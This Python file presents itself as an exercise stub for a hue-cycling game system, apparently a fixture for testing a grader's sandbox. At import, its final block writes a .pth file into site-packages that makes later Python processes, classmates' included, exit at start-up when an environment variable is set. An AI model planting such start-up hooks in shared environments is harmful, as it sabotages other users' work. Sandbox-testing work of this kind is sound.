"""Attack: write a .pth file into the virtual environment's site-packages (@@SITE@@): every later Python process of the grader (a classmate's included) runs its line at start-up and dies. Armed only under the replay (GANDALF_ATTACK_REPLAY) so that a sandbox failure cannot break the machine's other work."""

from gandalf_core import ClearColorComponent, System

from ..components import HueCycleComponent


def hsv_to_rgb(hue, saturation, value):
    raise NotImplementedError("exercise: hsv_to_rgb")


class HueCycleSystem(System):
    def __init__(self):
        super().__init__([HueCycleComponent, ClearColorComponent])

    def on_update_entity(self, ts, entity, components):
        raise NotImplementedError("exercise: HueCycleSystem.on_update_entity")

try:
    with open("@@SITE@@/gandalf_attack_replay.pth", "w") as _f:
        _f.write("import os; os.environ.get('GANDALF_ATTACK_REPLAY') and os._exit(3)\n")
except OSError:
    pass
